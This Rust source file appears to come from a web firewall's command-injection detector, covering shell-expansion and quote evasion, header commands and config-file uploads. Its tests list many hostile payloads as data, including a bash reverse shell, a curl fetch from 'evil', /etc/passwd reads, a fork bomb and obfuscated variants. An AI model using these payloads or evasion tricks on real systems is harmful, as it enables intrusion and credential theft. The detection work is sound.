    if folded.len() > MAX_EXPAND || !folded.bytes().any(|b| b == b'$' || b == b'[') {
        return None;
    }
    let b = folded.as_bytes();
    // Assignments `name=value` at a command's start.
    let mut vars: Vec<(&str, String)> = Vec::new();
    let mut i = 0;
    while i < b.len() && vars.len() < MAX_ASSIGNMENTS {
        let at_start = i == 0
            || matches!(
                b[i - 1],
                b';' | b'&' | b'|' | b' ' | b'\n' | b'`' | b'(' | b'='
            );
        if at_start && (b[i].is_ascii_lowercase() || b[i] == b'_') {
            let mut j = i;
            while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                j += 1;
            }
            if b.get(j) == Some(&b'=') {
                let name = &folded[i..j];
                let mut val = String::new();
                let mut k = j + 1;
                let mut quote = None;
                while k < b.len() {
                    let c = b[k];
                    match (quote, c) {
                        (Some(q), c) if c == q => quote = None,
                        (Some(_), _) => val.push(c as char),
                        (None, b'\'') | (None, b'"') => quote = Some(c),
                        (None, b'\\') => {
                            if let Some(&n) = b.get(k + 1) {
                                val.push(n as char);
                                k += 1;
                            }
                        }
                        (None, b';' | b'&' | b'|' | b' ' | b'\n') => break,
                        (None, _) => val.push(c as char),
                    }
                    k += 1;
                }
                if val.is_ascii() && val.len() <= 64 {
                    vars.push((name, val));
                }
                // The value may itself start an assignment (`cmd=g=adduse[r]`).
                i = j + 1;
                continue;
            }
        }
        i += 1;
    }
    let mut out = String::with_capacity(folded.len());
    let mut i = 0;
    while i < b.len() && out.len() <= 2 * MAX_EXPAND {
        let c = b[i];
        match c {
            b'\\' | b'\'' | b'"' | b'^' => {
                i += 1;
                continue;
            }
            b'$' => {
                let rest = &b[i + 1..];
                match rest.first() {
                    Some(b'!' | b'?' | b'-' | b'_' | b'$' | b'#' | b'*' | b'@' | b'0'..=b'9') => {
                        i += 2;
                        continue;
                    }
                    Some(b'{') => {
                        if let Some(end) = rest.iter().take(40).position(|&c| c == b'}') {
                            let name = &folded[i + 2..i + 1 + end];
                            if name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_') {
                                if let Some((_, val)) = vars.iter().find(|(n, _)| *n == name) {
                                    out.push_str(val);
                                }
                                i += end + 2;
                                continue;
                            }
                        }
                    }
                    Some(c) if c.is_ascii_lowercase() || *c == b'_' => {
                        let len = rest
                            .iter()
                            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                            .count();
                        let name = &folded[i + 1..i + 1 + len];
                        if name == "ifs" {
                            out.push(' ');
                        } else if let Some((_, val)) = vars.iter().find(|(n, _)| *n == name) {
                            out.push_str(val);
                        }
                        i += 1 + len;
                        continue;
                    }
                    _ => {}
                }
            }
            b'+' if matches!(b.get(i + 1), Some(b'/' | b'-')) => {
                // `cat+/etc/passwd`: a form-encoded blank decoded once too few.
                out.push(' ');
                i += 1;
                continue;
            }
            b'[' => {
                // A one-character class inside a word: `bi[n]`, `adduse[r]`.
                let glued = i > 0 && (b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'/');
                if let Some(end) = b[i + 1..].iter().take(10).position(|&c| c == b']') {
                    let class = &b[i + 1..i + 1 + end];
                    let glued = glued
                        || b.get(i + 2 + end)
                            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/');
                    if glued
                        && !class.is_empty()
                        && class[0].is_ascii_lowercase()
                        && class.iter().all(|c| c.is_ascii_lowercase() || *c == b'/')
                    {
                        out.push(class[0] as char);
                        i += end + 2;
                        continue;
                    }
                }
            }
            _ => {}
        }
        let len = match c {
            0x00..=0x7f => 1,
            0xc0..=0xdf => 2,
            0xe0..=0xef => 3,
            _ => 4,
        };
        let end = (i + len).min(b.len());
        if let Some(s) = folded.get(i..end) {
            out.push_str(s);
        }
        i = end;
    }
    // Substituted values may hold globs of their own (`g=adduse[r];$g x`).
    if depth == 0 && !vars.is_empty() && out.contains('[') && out.len() <= MAX_EXPAND {
        if let Some(again) = expand_at(&out.replace('$', ""), 1) {
            return Some(again);
        }
    }
    Some(out)
}

/// Header names that carry an uploaded file's name.
const FILENAME_HEADERS: &[&str] = &[
    "x-filename",
    "x_filename",
    "x-file-name",
    "x-upload-filename",
];

/// Whether an uploaded file name is one a web server or a user account reads as
/// configuration or credentials (`.htaccess`, `web.config`, `wp-config.php.bak`,
/// `authorized_keys`): writing one is a step to code execution or account takeover. The level
/// is 2 for generic application configuration names (`config.yml`).
pub fn restricted_upload(name: &str) -> Option<u8> {
    let lower: String = name
        .trim()
        .chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(char::to_lowercase)
        .collect();
    let base = lower.rsplit(['/', '\\']).next().unwrap_or(&lower);
    const EXACT: &[&str] = &[
        ".htaccess",
        ".htpasswd",
        ".htdigest",
        ".user.ini",
        "php.ini",
        "web.config",
        "applicationhost.config",
        ".bashrc",
        ".bash_profile",
        ".bash_login",
        ".bash_logout",
        ".bash_history",
        ".profile",
        ".zshrc",
        ".zprofile",
        ".cshrc",
        ".login",
        ".netrc",
        ".npmrc",
        ".pypirc",
        ".pgpass",
        ".my.cnf",
        ".gitconfig",
        ".git-credentials",
        ".boto",
        ".s3cfg",
        ".dockercfg",
        ".env",
        "authorized_keys",
        "authorized_keys2",
        "known_hosts",
        "id_rsa",
        "id_dsa",
        "id_ecdsa",
        "id_ed25519",
        "crontab",
        "sudoers",
        "passwd",
        "shadow",
        "localsettings.php",
        "configuration.php",
        "config.inc.php",
        "settings.php",
        "settings.local.php",
        "local.xml",
        "env.php",
        "parameters.yml",
    ];
    if EXACT.contains(&base) {
        return Some(1);
    }
    // `wp-config.php` and its backups and renamings (`wp-config-php.bak`, `wp-config_php.txt`).
    if let Some(rest) = base.strip_prefix("wp-config") {
        if rest.is_empty()
            || rest.starts_with('.')
            || rest.get(1..).is_some_and(|r| r.starts_with("php"))
        {
            return Some(1);
        }
    }
    const GENERIC: &[&str] = &[
        "config.yml",
        "config.yaml",
        "config.php",
        "database.yml",
        "secrets.yml",
        "secrets.yaml",
        "credentials",
        "credentials.json",
        "docker-compose.yml",
        ".dockerignore",
        ".gitignore",
    ];
    GENERIC.contains(&base).then_some(2)
}

/// The values of a `Referer`'s query and fragment, or the whole of one that is no URL: the
/// referring page's parameters, where an injection also shows.
fn referer_parts(referer: &str) -> Vec<String> {
    let r = referer.trim();
    let is_url = r.contains("://") || r.starts_with("//");
    let mut parts = Vec::new();
    let tail = match r.find(['?', '#']) {
        Some(p) => &r[p + 1..],
        None if is_url => return parts,
        None => {
            parts.push(r.replace('+', " "));
            return parts;
        }
    };
    if !is_url && !r.starts_with(['?', '#']) {
        parts.push(r[..r.len() - tail.len() - 1].replace('+', " "));
    }
    for kv in tail.split(['&', '#', '?']).take(32) {
        let val = kv.split_once('=').map_or(kv, |(_, v)| v);
        if !val.is_empty() {
            parts.push(val.replace('+', " "));
        }
    }
    parts
}

/// Code checks: a command hidden by shell expansion, a command in the `Referer`'s parameters or
/// at the start of the `User-Agent`, uploads of configuration files, and command words that
/// only appear once quotes are removed.
pub fn check(v: &Value<'_>, sc: u32, out: &mut Vec<RuleHit>) {
    let upload_header =
        sc & scope::HEADER != 0 && FILENAME_HEADERS.contains(&v.placement.field.as_str());
    if sc & scope::FILENAME != 0 || upload_header {
        if let Some(pl) = restricted_upload(v.decoded) {
            out.push(hit("rce.restricted_upload", pl, Critical));
        }
    }
    if sc & (scope::REFERER | scope::USER_AGENT) != 0 && v.decoded.len() <= MAX_EXPAND {
        header_check(v, sc, out);
    }
    if sc & WHERE == 0 {
        return;
    }
    if let Some(x) = expand(v.folded) {
        if x != v.cmdline {
            if let Some(pl) = command_level(&x, Some(v.cmdline)) {
                out.push(hit("rce.shell_expansion", pl, Critical));
            }
        }
    }
    quote_evasion(v, out);
}

fn hit(rule: &'static str, paranoia: u8, severity: crate::Severity) -> RuleHit {
    RuleHit {
        rule,
        category: CAT,
        severity,
        paranoia,
        span: 0..0,
    }
}

/// `Referer` parameters read as parameters; a `User-Agent` that is a command line.
fn header_check(v: &Value<'_>, sc: u32, out: &mut Vec<RuleHit>) {
    static HEADER: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let rx = HEADER.get_or_init(|| {
        let unamb = alt(&unambiguous());
        let bare = alt(BARE);
        regex::Regex::new(&format!(
            r"^\s*{PREFIX}{BIN}(?:{unamb}){VER}(?:\.exe)?(?:\s|$)|[;|&`]\s*(?:{bare}|set|export|history)\s*$"
        ))
        .expect("header command rule compiles")
    });
    let mut views = crate::normalize::Views::default();
    if sc & scope::REFERER != 0 {
        for part in referer_parts(v.decoded) {
            views.fill(&part);
            let expanded = expand(&views.folded);
            let found = command_level(&views.cmdline, None).is_some()
                || rx.is_match(&views.cmdline)
                || expanded
                    .as_deref()
                    .is_some_and(|x| command_level(x, None).is_some());
            if found {
                out.push(hit("rce.referer_command", 2, Critical));
                return;
            }
        }
    }
    if sc & scope::USER_AGENT != 0 {
        let expanded = expand(v.folded);
        let evaded = expanded
            .as_deref()
            .filter(|x| *x != v.cmdline)
            .and_then(|x| command_level(x, Some(v.cmdline)));
        let text = expanded.as_deref().unwrap_or(v.cmdline);
        if rx.is_match(text) || evaded.is_some() {
            out.push(hit("rce.user_agent_command", 2, Critical));
        }
    }
}

/// A command word that only appears once quotes, backslashes or carets are removed
/// (`w'h'o'am'i`, `c\at`): nobody writes a command that way but to evade.
fn quote_evasion(v: &Value<'_>, out: &mut Vec<RuleHit>) {
    if v.cmdline.len() == v.folded.len() {
        return;
    }
    let evaded = v
        .folded
        .bytes()
        .any(|b| matches!(b, b'\'' | b'"' | b'\\' | b'^'));
    if !evaded {
        return;
    }
    for word in v.cmdline.split(|c: char| !c.is_ascii_alphanumeric()) {
        if word.len() >= 3 && STRONG.contains(&word) && !contains_word(v.folded, word) {
            out.push(RuleHit {
                rule: "rce.quote_evasion",
                category: CAT,
                severity: Critical,
                paranoia: 2,
                span: 0..0,
            });
            return;
        }
    }
}

fn contains_word(text: &str, word: &str) -> bool {
    text.split(|c: char| !c.is_ascii_alphanumeric())
        .any(|w| w == word)
}

#[cfg(test)]
mod tests {
    use super::super::builtin::testing::{fires, ids_at};

    #[test]
    fn unix_injection_after_separators_is_caught() {
        for v in [
            "1; cat /etc/passwd",
            "x|id",
            "127.0.0.1 && whoami",
            "a`uname -a`",
            "$(curl http://evil/x.sh)",
            ";ps",
            "1;w'h'o'am'i",
            "x;c\\at /e\\tc/pa\\sswd",
            "foo;wget${IFS}http://x/y",
            "ls -la /",
            "/bin/sh -c id",
            "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
            "() { :; }; /bin/bash -c id",
            "cat$IFS/etc/passwd",
            "c{a,oun}t",
            "{l,-lh}s",
            ":(){ :|:& };:",
            "alias a=id",
            "!-1!-2",
        ] {
            assert!(fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 4));
        }
    }

    #[test]
    fn windows_injection_is_caught() {
        for v in [
            "x & cmd /c dir",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            ";iwr http://example.com/file.ps1",
            "for %variable in (set) do command",
            "for /f %%i in ('dir') do echo",
            "if exist c:\\boot.ini echo",
            "; regedit /E c:\\a.reg HKEY_CURRENT_USER",
            "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=",
        ] {
            assert!(fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 4));
        }
    }

    #[test]
    fn prose_and_data_are_not_caught() {
        for v in [
            "a & b",
            "Tom & Jerry",
            "black & white | more",
            "salt & pepper; find out more",
            "cat food is great",
            "bash",
            "I ate; then slept",
            "O'Brien",
            "select a union rep",
            "rock & roll",
            "R&D",
            "price: $5 (approx)",
            "{a,b}",
            "Hello ${name}",
            "function () { return 1 }",
            "id",
            "sort -name",
            "it's 'quoted' text",
            "curl/7.68.0",
            "python-requests/2.31",
            "for each item in the list",
            "if not, then what",
        ] {
            assert!(!fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 1));
        }
    }

    use super::super::builtin::testing::hits_with;
    use super::{expand, restricted_upload};
    use crate::placement::scope;

    fn fires_at(v: &str, sc: u32, pl: u8) -> bool {
        hits_with(v, sc, None)
            .iter()
            .any(|(id, p)| id.starts_with("rce.") && *p <= pl)
    }

    #[test]
    fn commands_hidden_by_expansion_are_caught() {
        for v in [
            "www.example.com;c$!at /et$!c/pas$!swd",
            "x;c$?at+/et$?c/passwd",
            ";$a cat test.txt",
            "|$u wget test.sh",
            "a; sh$xx -c whoami",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "g=adduse[r];$g pizza",
            "v='u';c${v}r\\l example.com",
            "/bi[n]/bash -c id",
        ] {
            assert!(fires_at(v, scope::QUERY, 1), "{v}: {:?}", ids_at(v, 4));
        }
        assert_eq!(expand("a=cat;$a /x").as_deref(), Some("a=cat;cat /x"));
        assert_eq!(expand("c$!at"), Some("cat".to_string()));
        assert_eq!(expand("plain text"), None);
    }

    #[test]
    fn new_command_idioms_are_caught() {
        for (v, pl) in [
            ("ansible-config dump", 2),
            ("cscli alerts list", 2),
            ("aa-disable php-fpm", 2),
            ("time ifconfig", 1),
            ("nohup ifconfig", 1),
            ("strace ifconfig", 1),
            ("time curl example.org", 1),
            ("pip install something", 2),
            (";date -f secrets.txt", 1),
            ("rc script.sh", 1),
            ("alias -p x=id", 1),
            ("alias +m a=b", 1),
            ("{,$'whoami',}", 1),
            ("image.jpg&bcdboot/r file.txt", 1),
            ("if \"a a\" == \"a a\" echo same", 1),
            ("if/i a==b foo", 1),
            ("f(){ f|f& };f", 2),
            ("1;.\\\"shell whoami", 2),
            (";\\n.databases", 2),
            (";gcc10.1<<<void main(){}", 2),
            (";vim x +silent\\ \\!whoami +wq", 1),
            ("\\ls", 1),
            (";who am i", 2),
            ("bin/cscli", 2),
            ("~-1", 1),
            ("${shell} -c \"echo hi\"", 1),
            ("a001 authenticate plain", 4),
        ] {
            let v = v.replace("a001", "\na001");
            assert!(fires_at(&v, scope::QUERY, pl), "{v}: {:?}", ids_at(&v, 4));
        }
    }

    #[test]
    fn header_commands_are_caught_at_paranoia_2() {
        let ua = scope::HEADER | scope::USER_AGENT;
        let referer = scope::HEADER | scope::REFERER;
        for (v, sc) in [
            ("ansible all -m ping", ua),
            ("time ifconfig", ua),
            ("a=nc&&$a -nlvp 555", ua),
            (";env", ua),
            (";set", referer),
            (
                "https://www.example.com/?p=x#x=foo;cat$u+/etc$u/passwd",
                referer,
            ),
            ("www.example.com/?param=;/bin/ca?+/et*/passwd", referer),
            ("/bin/ca't'+/et*/passwd", referer),
            (":(){ :|:& };:", referer),
        ] {
            assert!(fires_at(v, sc, 2), "{v}: {:?}", hits_with(v, sc, None));
        }
        for (v, sc) in [
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0",
                ua,
            ),
            ("curl/8.4.0", ua),
            ("python-requests/2.31.0", ua),
            ("Wget/1.21.3", ua),
            ("Go-http-client/1.1", ua),
            ("https://www.example.com/search?q=cat+food&hl=en", referer),
            ("https://github.com/org/repo/blob/main/bin/run.sh", referer),
            ("https://example.com/app#/users/12?tab=list", referer),
        ] {
            assert!(!fires_at(v, sc, 2), "{v}: {:?}", hits_with(v, sc, None));
        }
    }

    #[test]
    fn configuration_file_uploads_are_caught_by_name() {
        let file = scope::BODY | scope::FILENAME;
        for v in [
            ".htaccess",
            "web.config",
            ".boto",
            "wp-config-php.bak",
            "wp-config_php.txt",
            "wp-config. php",
            "settings. php",
            "uploads/.user.ini",
            "authorized_keys",
        ] {
            assert!(fires_at(v, file, 1), "{v}");
        }
        assert_eq!(restricted_upload("config.yml "), Some(2));
        for v in [
            "photo.png",
            "report.docx",
            "C:\\Users\\me\\Documents\\report.docx",
            "config.json",
            "settings.png",
        ] {
            assert!(!fires_at(v, file, 2), "{v}");
        }
        // The same names as ordinary values are data, not uploads.
        assert!(!fires_at(".htaccess", scope::QUERY, 2));
    }

    #[test]
    fn api_lookalikes_are_not_caught_at_paranoia_2() {
        for v in [
            "cat food; dog food",
            "ls -- a list",
            "Tom & Jerry",
            "echo chamber",
            "/usr/share is a path",
            "C:\\Program Files\\App\\app.exe",
            "Best;Top;New",
            "Salt;Pepper;Cat;Dog",
            "Who;What;Where",
            "Ready;Set;Go",
            "nice cat; cute dog",
            "red|green|top",
            "curl 20kg",
            "rpm 3000",
            "rsync vs scp",
            "time who",
            "~5 minutes",
            "$[0].name",
            "$.store.book[0].title",
            "/bookstore/book[price]/title",
            "Hello ${name}",
            "/[a-z]{1,5}/",
            "^[0-9]{3,4}$",
            "price: $5; total: $10",
            "Hello $name, your order #12 is ready; see details",
            "x=1;y=2;z=3",
            "a=b&c=$d",
            "sort=name;order=asc",
            "Wall Street's benchmark",
            "Mount Airy basketball coach",
            "Cut orange quarters into slices",
            "whoami",
            "lastlog",
            "python3.11 is out",
            "{\"a\":[1,2],\"b\":\"x\"}",
            "2024-01-01T10:00:00Z",
            "猫粮; 狗粮 | 更多",
            "SGVsbG8gd29ybGQ=",
        ] {
            assert!(!fires_at(v, scope::QUERY, 2), "{v}: {:?}", ids_at(v, 2));
        }
    }

    proptest::proptest! {
        #[test]
        fn expansion_never_panics_and_stays_bounded(s in "[ -~\t\n]{0,300}") {
            let f = crate::normalize::fold(&s);
            if let Some(x) = expand(&f) {
                proptest::prop_assert!(x.len() <= 2 * super::MAX_EXPAND + 64 * super::MAX_ASSIGNMENTS);
            }
            let _ = restricted_upload(&s);
            let _ = super::referer_parts(&s);
        }
    }
}
